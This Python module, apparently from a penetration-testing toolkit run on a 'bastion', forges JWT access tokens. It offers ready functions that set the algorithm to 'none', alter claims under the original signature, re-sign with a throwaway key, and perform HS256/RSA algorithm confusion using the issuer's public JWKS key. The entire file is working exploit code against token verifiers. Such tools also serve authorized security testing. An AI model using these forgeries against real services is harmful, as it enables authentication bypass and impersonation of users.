"""Read and forge access tokens. Forging needs ``cryptography``, which the bastion has."""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature


class TokenError(ValueError):
    """The token is not a JWT in compact form."""


def claims(token: str) -> dict[str, Any]:
    """Return the claims without checking anything.

    Raises:
        TokenError: there is no JSON object between the dots.
    """
    return _decode(_parts(token)[1])


def resigned(token: str) -> str:
    """Return the token with a signature that a freshly made key of the same kind produced."""
    head, body, _ = _parts(token)
    signed = f"{head}.{body}".encode()
    return f"{head}.{body}.{_encode(_sign(str(_decode(head).get('alg')), signed))}"


def unsigned(token: str) -> str:
    """Return the token with algorithm ``none`` and no signature."""
    header = {**_decode(_parts(token)[0]), "alg": "none"}
    return f"{_encode_json(header)}.{_parts(token)[1]}."


def tampered(token: str, changes: Mapping[str, Any]) -> str:
    """Return the token with changed claims under its old signature."""
    head, body, signature = _parts(token)
    return f"{head}.{_encode_json({**_decode(body), **changes})}.{signature}"


def signed_with_public_key(token: str, key: Mapping[str, Any]) -> str:
    """Return the token as HS256 with the issuer's RSA public key as the secret.

    This is the algorithm confusion that verifiers without an algorithm list fall for.

    Raises:
        TokenError: the key is no RSA key of a JWKS.
    """
    try:
        numbers = rsa.RSAPublicNumbers(_integer(key["e"]), _integer(key["n"]))
    except KeyError as error:
        raise TokenError(f"the JWKS key has no member {error}; only RSA keys fit") from None
    pem = numbers.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    head, body, _ = _parts(token)
    header = {**_decode(head), "alg": "HS256"}
    signed = f"{_encode_json(header)}.{body}"
    return f"{signed}.{_encode(hmac.new(pem, signed.encode(), hashlib.sha256).digest())}"


def _sign(algorithm: str, data: bytes) -> bytes:
    """Sign as the issuer would, with a key that only this call ever had."""
    if algorithm.startswith("ES"):
        key = ec.generate_private_key(ec.SECP256R1())
        r, s = decode_dss_signature(key.sign(data, ec.ECDSA(hashes.SHA256())))
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    if algorithm.startswith("PS"):
        pss = padding.PSS(padding.MGF1(hashes.SHA256()), hashes.SHA256.digest_size)
        return rsa_key.sign(data, pss, hashes.SHA256())
    return rsa_key.sign(data, padding.PKCS1v15(), hashes.SHA256())


def _parts(token: str) -> tuple[str, str, str]:
    parts = token.split(".")
    if len(parts) != 3:
        raise TokenError(f"the token has {len(parts)} parts, a signed JWT has 3")
    return parts[0], parts[1], parts[2]


def _decode(part: str) -> dict[str, Any]:
    try:
        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (binascii.Error, ValueError) as error:
        raise TokenError(f"a part of the token is no JSON: {error}") from None
    if not isinstance(value, dict):
        raise TokenError("a part of the token is no JSON object")
    return value


def _encode_json(value: Mapping[str, Any]) -> str:
    return _encode(json.dumps(value, separators=(",", ":")).encode())


def _encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _integer(value: str) -> int:
    return int.from_bytes(base64.urlsafe_b64decode(value + "=" * (-len(value) % 4)), "big")
